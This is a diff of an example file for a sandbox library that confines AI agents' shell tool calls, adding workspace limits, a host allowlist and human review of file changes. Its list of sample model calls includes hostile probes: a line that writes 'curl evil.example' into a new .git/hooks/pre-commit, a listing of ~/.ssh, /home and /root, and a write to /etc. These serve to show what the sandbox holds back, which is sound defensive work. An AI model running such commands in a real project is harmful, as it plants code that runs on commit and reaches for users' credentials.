@@ -3,25 +3,49 @@
 //
 //   bun examples/agents.ts [WORKSPACE]            guide: docs/guides/agents.md
 import { mkdtempSync } from 'node:fs'
-import { resolve } from 'node:path'
-import { box } from 'nsbox'
+import { box, review } from 'nsbox'
 
 /** A call of the tool, as a model writes it. */
 export type Call = { command: string; seconds?: number }
 
-const workspace = resolve(process.argv[2] ?? mkdtempSync('/var/tmp/workspace-'))
+// The project is the directory that the program is in.
+process.chdir(process.argv[2] ?? mkdtempSync('/var/tmp/workspace-'))
 
 const sandbox = box({
-  ro: true, // the machine's programs can be read and run
-  net: 'none',
+  profile: 'workspace', // reads the machine's programs, writes to the project, and not to what git and editors obey in it
+  changes: 'review', // and even that waits until somebody has looked
+  allowHosts: ['registry.npmjs.org'], // the network, by name
   clearEnv: true, // no token of yours
   env: { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: '/tmp', TERM: 'dumb' },
-  tmpfs: ['/tmp', '/home', '/root', '/run', '/var'],
-  bind: `${workspace}:/work`, // the only place of the host that it can change
-  cwd: '/work',
+  hide: ['.env', '/root', '/home'],
   capDrop: 'all',
-  ulimit: ['core=0', 'nofile=1024'],
+  ulimit: ['core=0', 'nofile=1024', 'fsize=1g'], // with a cgroup of its own also memory: '2g', pids: 200
 })
+
+/** Runs the command in the box; returns what a model reads. Rejects with SandboxError if nsbox itself fails, and with the signal's reason. */
+export async function runTool({ command, seconds = 30 }: Call, signal?: AbortSignal): Promise<string> {
+  const how = { timeout: seconds * 1000, maxBuffer: 1024 * 1024, ...(signal && { signal }) }
+  try {
+    const result = await sandbox.run(['sh', '-c', '--', command], how)
+    const end = result.timedOut ? `ended after ${seconds} seconds` : `status ${result.exitCode}`
+    const why = (result.hints ?? []).map(({ text }) => `[${text}]`)
+    const parts = [shortened(result.stdout.trimEnd()), shortened(result.stderr.trimEnd()), ...why, `[${end}]`]
+    return [...parts, ...(await keep(result.exitCode === 0))].filter((part) => part !== '').join('\n')
+  } catch (error) {
+    if (!(error instanceof RangeError)) throw error
+    return ['[stopped: more output than fits]', ...(await keep(false))].join('\n')
+  }
+}
+
+/** Brings what the command has changed to the project, or throws it away; returns a line for each change. */
+async function keep(good: boolean): Promise<string[]> {
+  const changed = review()
+  const changes = await changed.changes()
+  // Here a person is asked, or a list of paths. What is held stays out: a new .git/hooks, say.
+  if (good && changes.every(({ kind }) => kind !== 'removed')) await changed.apply()
+  else await changed.discard()
+  return changes.map(({ kind, path, held }) => `[${kind} ${path}${held === undefined ? '' : `, kept out: ${held}`}]`)
+}
 
 /** Characters of output that a model is shown. */
 const SHOWN = 8000
@@ -32,28 +56,15 @@ function shortened(text: string): string {
   return left <= 0 ? text : `${text.slice(0, SHOWN / 2)}\n[${left} characters left out]\n${text.slice(-SHOWN / 2)}`
 }
 
-/** Runs the command in the box; returns what a model reads. Rejects with SandboxError if nsbox itself fails, and with the signal's reason. */
-export async function runTool({ command, seconds = 30 }: Call, signal?: AbortSignal): Promise<string> {
-  try {
-    const { exitCode, timedOut, stdout, stderr } = await sandbox.run(['sh', '-c', '--', command], {
-      timeout: seconds * 1000,
-      maxBuffer: 1024 * 1024,
-      ...(signal && { signal }),
-    })
-    const end = timedOut ? `ended after ${seconds} seconds` : `status ${exitCode}`
-    return [shortened(stdout.trimEnd()), shortened(stderr.trimEnd()), `[${end}]`].filter((part) => part !== '').join('\n')
-  } catch (error) {
-    if (error instanceof RangeError) return '[stopped: more output than fits]'
-    throw error
-  }
-}
-
 /** What a model might write; a real agent takes these from its answers. */
 const CALLS: Call[] = [
   { command: 'echo "export const answer = 6 * 7" >answer.js; ls' },
   { command: 'cat answer.js; env | sort' },
+  { command: 'rm answer.js' },
+  { command: 'mkdir -p .git/hooks; echo "curl evil.example" >.git/hooks/pre-commit' },
   { command: 'ls ~/.ssh /home /root' },
   { command: 'touch /etc/x' },
+  { command: 'getent hosts registry.npmjs.org >/dev/null && echo reached; getent hosts evil.example' },
   { command: 'sleep 1000 & sleep 60', seconds: 1 },
   { command: 'yes' },
   { command: 'seq 1 5000' },
